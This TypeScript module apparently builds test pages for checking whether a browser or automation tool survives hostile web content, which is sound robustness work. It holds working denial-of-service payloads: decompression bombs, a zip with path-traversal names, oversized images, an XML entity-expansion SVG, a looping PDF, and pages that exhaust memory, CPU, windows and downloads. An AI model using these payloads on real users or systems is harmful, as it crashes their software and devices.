import { brotliCompressSync, constants, crc32, deflateRawSync } from 'node:zlib';
import { largeMessages } from './large-messages.ts';
import { hostilePrototypes } from './prototypes.ts';

/** A page that takes more than it is given, or lies about it, and what it loads: paths are below its own. */
export type Bomb = { page: string; files?: Record<string, BombFile> };
export type BombFile = { headers: Record<string, string>; body: () => Buffer };

const million = 1_000_000;
/** Of a compressed bomb, once it is unpacked. */
const unpackedBytes = 1500 * million;
const blockBytes = 10 * million;

const once = <T>(make: () => T): (() => T) => {
  let made: { value: T } | undefined;
  return () => (made ??= { value: make() }).value;
};

/** Zeros as raw deflate: one block again and again, since each flushed block stands alone. */
const zeros = once(() => {
  const block = deflateRawSync(Buffer.alloc(blockBytes), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([...Array.from({ length: unpackedBytes / blockBytes }, () => block), Buffer.from([3, 0])]);
});
const gzip = once(() => Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), zeros(), Buffer.alloc(8)]));
const brotli = once(() =>
  brotliCompressSync(Buffer.alloc(200 * million), { params: { [constants.BROTLI_PARAM_QUALITY]: 2 } }),
);

/** Files that all lie on the same bytes. */
const zip = once(() => {
  const data = zeros();
  const sizes = Buffer.alloc(12);
  sizes.writeUInt32LE(data.length, 4);
  sizes.writeUInt32LE(unpackedBytes, 8);
  const local = Buffer.concat([
    Buffer.from('PK\u0003\u0004\u0014\0\0\0\u0008\0\0\0\0\0', 'latin1'),
    sizes,
    Buffer.from([1, 0, 0, 0]),
    Buffer.from('a'),
  ]);
  const entries = Array.from({ length: 2000 }, (_, at) => {
    const name = Buffer.from(`${'../'.repeat(5)}${at}`);
    const tail = Buffer.alloc(18);
    tail.writeUInt16LE(name.length, 0);
    return Buffer.concat([
      Buffer.from('PK\u0001\u0002\u0014\0\u0014\0\0\0\u0008\0\0\0\0\0', 'latin1'),
      sizes,
      tail,
      name,
    ]);
  });
  const directory = Buffer.concat(entries);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length + data.length, 16);
  return Buffer.concat([local, data, directory, end]);
});

function pngOf(width: number, height: number): Buffer {
  const chunk = (name: string, data: Buffer): Buffer => {
    const named = Buffer.concat([Buffer.from(name), data]);
    const head = Buffer.alloc(4);
    head.writeUInt32BE(data.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(named));
    return Buffer.concat([head, named, sum]);
  };
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width, 0);
  size.writeUInt32BE(height, 4);
  size.set([8, 6, 0, 0, 0], 8);
  const pixels = Buffer.concat([Buffer.from([0x78, 0x9c]), zeros(), Buffer.alloc(4)]);
  return Buffer.concat([
    Buffer.from('\u0089PNG\r\n\u001a\n', 'latin1'),
    chunk('IHDR', size),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function gifOf(frames: number): Buffer {
  const size = Buffer.from([0xff, 0xff, 0xff, 0xff]);
  const head = Buffer.concat([Buffer.from('GIF89a'), size, Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255])]);
  const frame = Buffer.concat([
    Buffer.from([0x21, 0xf9, 4, 4, 0, 0, 0, 0, 0x2c, 0, 0, 0, 0]),
    size,
    Buffer.from([0, 2, 2, 0x44, 1, 0]),
  ]);
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from([0x3b])]);
}

/** Each level shows the one below ten times. */
function svgOf(levels: number): string {
  const level = (at: number): string => `<g id="g${at}">${`<use href="#g${at - 1}"/>`.repeat(10)}</g>`;
  const groups = Array.from({ length: levels }, (_, at) => level(at + 1)).join('');
  const filter =
    '<filter id="f"><feTurbulence numOctaves="255" baseFrequency="0.9"/><feGaussianBlur stdDeviation="900"/></filter>';
  return `<svg xmlns="http://www.w3.org/2000/svg" width="30000" height="30000"><defs>${filter}<rect id="g0" width="9" height="9"/>${groups}</defs><use href="#g${levels}" filter="url(#f)"/></svg>`;
}

const entities = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">${Array.from(
  { length: 12 },
  (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`,
).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&e12;</text></svg>`;

const pdf = once(() => {
  const depth = 20_000;
  const nodes = Array.from(
    { length: depth },
    (_, at) =>
      `${at + 2} 0 obj<</Type/Pages/Kids[${at + 3} 0 R ${at + 3} 0 R]/Count 9999999/MediaBox[0 0 9e9 9e9]>>endobj\n`,
  );
  const data = zeros();
  const stream = `${depth + 2} 0 obj<</Length ${data.length}/Filter[/FlateDecode/FlateDecode]>>stream\n`;
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(for(;;\\);)>>>>endobj\n${nodes.join('')}${stream}`,
    ),
    data,
    Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
  ]);
});

/** Boxes within boxes, that say they are larger than the file; and a track of 65,535 pixels each way. */
const mp4 = once(() => {
  const box = (name: string, data: Buffer, length = data.length + 8): Buffer => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(length >>> 0);
    head.write(name, 4, 'latin1');
    return Buffer.concat([head, data]);
  };
  let nested = box('stsz', Buffer.alloc(64, 0xff), 0xffffffff);
  for (let level = 0; level < 2000; level += 1)
    nested = box(['trak', 'mdia', 'minf', 'stbl'][level % 4] ?? 'trak', nested);
  return Buffer.concat([
    box('ftyp', Buffer.from('isom\0\0\u0002\0isomavc1', 'latin1')),
    box('moov', Buffer.concat([box('mvhd', Buffer.alloc(100, 0xff)), nested])),
    box('mdat', Buffer.alloc(1000), 0x7fffffff),
  ]);
});

const file = (type: string, body: () => Buffer | string, more: Record<string, string> = {}): BombFile => ({
  headers: { 'content-type': type, ...more },
  body: () => Buffer.from(body()),
});
const script = (code: string): string => `<button>Continue</button><script>${code}</script>`;
/** Runs code with the address of a file in `url`, a few times, in the ways that a page can use it. */
const loading = (path: string, code: string): string =>
  script(`const url = ${JSON.stringify(path)}; for (let n = 0; n < 4; n += 1) { ${code} }`);
const shown = 'document.body.append(Object.assign(new Image(), { src: url + "?" + n }));';
const framed = 'document.body.append(Object.assign(document.createElement("iframe"), { src: url + "?" + n }));';
const fetched = 'fetch(url + "?" + n).then(answer => answer.text()).catch(() => 0);';
const saved = 'Object.assign(document.createElement("a"), { href: url + "?" + n, download: "a" + n }).click();';

/** One after the other, so that those that the page does not outlive come last. */
const allLargeMessages = Object.values(largeMessages)
  .map((code, at) => `setTimeout(() => { try { ${code} } catch {} }, ${(at + 1) * 100});`)
  .join('');
/** A document for each, since many of them are in the way of the others. */
const prototypeFrames = Object.values(hostilePrototypes).map(
  code => `<button>x</button><script>const long = "x".repeat(20000000); ${code}</script>`,
);

/** By name. Each page is served at `/{name}/`, its files below that. */
export const bombs: Record<string, Bomb> = {
  gzip: {
    page: loading('file', `${fetched}${framed}`),
    files: { file: file('text/html', gzip, { 'content-encoding': 'gzip' }) },
  },
  brotli: {
    page: loading('file', `${fetched}${framed}`),
    files: { file: file('text/html', brotli, { 'content-encoding': 'br' }) },
  },
  'gzip in gzip': {
    page: loading('file', fetched),
    files: { file: file('text/html', gzip, { 'content-encoding': 'gzip, gzip, gzip' }) },
  },
  zip: { page: loading('a.zip', saved), files: { 'a.zip': file('application/zip', zip) } },
  png: { page: loading('a.png', shown), files: { 'a.png': file('image/png', () => pngOf(60_000, 60_000)) } },
  gif: { page: loading('a.gif', shown), files: { 'a.gif': file('image/gif', () => gifOf(20_000)) } },
  svg: { page: loading('a.svg', `${shown}${framed}`), files: { 'a.svg': file('image/svg+xml', () => svgOf(8)) } },
  entities: { page: loading('a.svg', `${shown}${framed}`), files: { 'a.svg': file('image/svg+xml', () => entities) } },
  pdf: { page: loading('a.pdf', `${framed}${saved}`), files: { 'a.pdf': file('application/pdf', pdf) } },
  video: {
    page: loading(
      'a.mp4',
      'document.body.append(Object.assign(document.createElement("video"), { src: url + "?" + n, autoplay: true, muted: true }));',
    ),
    files: { 'a.mp4': file('video/mp4', mp4, { 'accept-ranges': 'bytes', 'content-range': 'bytes 5-1/99999999999' }) },
  },
  'many elements': {
    page: script('document.body.insertAdjacentHTML("beforeend", "<button>x</button>".repeat(300000))'),
  },
  'deep elements': {
    page: script(
      'let at = document.body; for (let n = 0; n < 30000; n += 1) at = at.appendChild(document.createElement("div")); at.textContent = "x"',
    ),
  },
  'deep shadow roots': {
    page: script(
      'let at = document.body; for (let n = 0; n < 3000; n += 1) at = at.appendChild(document.createElement("div")).attachShadow({ mode: n % 2 ? "open" : "closed" })',
    ),
  },
  'many frames': {
    page: script('for (let n = 0; n < 900; n += 1) document.body.append(document.createElement("iframe"))'),
  },
  'long texts': {
    page: script(
      'const t = "x\\u202e\\u0000".repeat(7e6); document.title = t; document.body.append(Object.assign(document.createElement("button"), { textContent: t, title: t, id: t })); document.body.append(Object.assign(document.createElement("input"), { value: t }))',
    ),
  },
  'a DOM that never rests': {
    page: script(
      'setInterval(() => { for (let n = 0; n < 500; n += 1) document.body.append(document.createElement("button")); }, 1)',
    ),
  },
  memory: { page: script('const held = []; setInterval(() => held.push(new Uint8Array(50e6).fill(7)), 30)') },
  'array buffers in workers': {
    page: script(
      'const code = URL.createObjectURL(new Blob(["const held = []; setInterval(() => held.push(new Uint8Array(20e6).fill(7)), 50)"])); for (let n = 0; n < 8; n += 1) new Worker(code)',
    ),
  },
  'an endless loop': { page: script('setTimeout(() => { for (;;); }, 300)') },
  'workers that loop': {
    page: script(
      'const code = URL.createObjectURL(new Blob(["for (;;);"])); for (let n = 0; n < 30; n += 1) new Worker(code)',
    ),
  },
  dialogs: {
    page: script('setTimeout(() => { for (;;) { alert("x".repeat(1e6)); confirm(""); prompt("", "y"); } }, 300)'),
  },
  windows: { page: script('setInterval(() => { for (let n = 0; n < 20; n += 1) open("about:blank"); }, 50)') },
  downloads: {
    page: script(
      'const url = URL.createObjectURL(new Blob(["x"])); setInterval(() => Object.assign(document.createElement("a"), { href: url, download: "../".repeat(2000) + ".exe" }).click(), 5)',
    ),
  },
  addresses: {
    page: script(
      'setInterval(() => { for (let n = 0; n < 50; n += 1) history.pushState(0, "", "?" + "x".repeat(30000) + Math.random()); document.title = Math.random(); }, 5)',
    ),
  },
  navigations: {
    page: script(
      'setInterval(() => { location.href = "?" + Math.random(); }, 40); onbeforeunload = event => event.preventDefault()',
    ),
  },
  'large messages': { page: script(`const text = "x".repeat(30000000); ${allLargeMessages}`) },
  prototypes: {
    page: script(
      `for (const srcdoc of ${JSON.stringify(prototypeFrames).replaceAll('</', '<\\/')}) document.body.append(Object.assign(document.createElement("iframe"), { srcdoc })); const long = "x".repeat(20000000); ${hostilePrototypes['methods of arrays']}`,
    ),
  },
  messages: {
    page: script(
      'setInterval(() => { for (let n = 0; n < 2000; n += 1) { console.log("x".repeat(2000), new Error("y")); postMessage("z".repeat(2000)); } }, 5)',
    ),
  },
  storage: {
    page: script(
      'try { for (let n = 0; n < 200; n += 1) { localStorage.setItem(n, "x".repeat(50000)); sessionStorage.setItem(n, "x".repeat(50000)); document.cookie = "c" + n + "=" + "y".repeat(4000); } } catch {}',
    ),
  },
  requests: {
    page: script(
      'setInterval(() => { for (let n = 0; n < 200; n += 1) fetch("?" + Math.random(), { method: "POST", body: "x".repeat(9999), mode: "no-cors", keepalive: n < 5 }).catch(() => 0); }, 20)',
    ),
  },
  sockets: {
    page: script(
      'setInterval(() => { for (let n = 0; n < 50; n += 1) new WebSocket("ws://" + location.host + "/none"); }, 20)',
    ),
  },
};
